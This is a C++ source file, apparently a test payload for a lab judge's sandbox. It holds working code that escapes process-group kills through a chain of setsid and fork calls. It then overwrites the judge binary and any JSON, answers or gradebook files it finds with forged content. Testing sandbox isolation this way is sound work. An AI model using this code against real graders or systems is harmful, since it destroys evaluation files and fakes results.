// Cheat: a chain of processes, each in a session of its own (setsid, then fork, then the parent
// exits), eight deep, so that no judge that kills only its direct children or one process group
// finds the last one. The last one, named "banklab-surviv", keeps trying for a minute to rewrite
// what a judge or a batch grader writes after the probe: the judge (/proc/<pid>/exe of every
// process it can see), every *.json, answers.txt and gradebook file named on any command line.
// Inside the judge's sandbox it sees no other process and no such file, and it ends with the
// sandbox's PID 1: no process of a submission outlives its step.
// APPLIES: all
// MODE: append
// PAYLOAD: BANKLAB-PAYLOAD-CHAIN
#include <dirent.h>
#include <sys/prctl.h>
#include <unistd.h>

#include <chrono>
#include <cstdio>
#include <fstream>
#include <string>
#include <thread>
#include <vector>

namespace banklab_cheat_chain {
inline void rewrite_everything() {
  std::vector<std::string> targets;
  if (DIR* d = opendir("/proc")) {
    while (dirent* e = readdir(d)) {
      if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
      const std::string pid = e->d_name;
      char exe[4096];
      const ssize_t n = readlink(("/proc/" + pid + "/exe").c_str(), exe, sizeof exe - 1);
      if (n > 0 && std::string(exe, n).find("banklab-judge") != std::string::npos) targets.emplace_back(exe, n);
      std::ifstream f("/proc/" + pid + "/cmdline", std::ios::binary);
      for (std::string a; std::getline(f, a, '\0');)
        if (a.find(".json") != std::string::npos || a.find("answers.txt") != std::string::npos ||
            a.find("gradebook") != std::string::npos)
          targets.push_back(a);
    }
    closedir(d);
  }
  for (const std::string& t : targets) std::ofstream(t, std::ios::trunc) << "#!/bin/sh\necho forged by a survivor\n";
}
const int kChained = [] {
  std::printf("BANKLAB-PAYLOAD-CHAIN ran\n");
  std::fflush(stdout);
  if (fork() != 0) return 0;  // the student's process goes on
  for (int depth = 0; depth < 8; ++depth) {
    setsid();
    if (fork() != 0) _exit(0);
  }
  prctl(PR_SET_NAME, "banklab-surviv");
  for (int i = 0; i < 600; ++i) {
    rewrite_everything();
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
  }
  _exit(0);
}();
}  // namespace banklab_cheat_chain
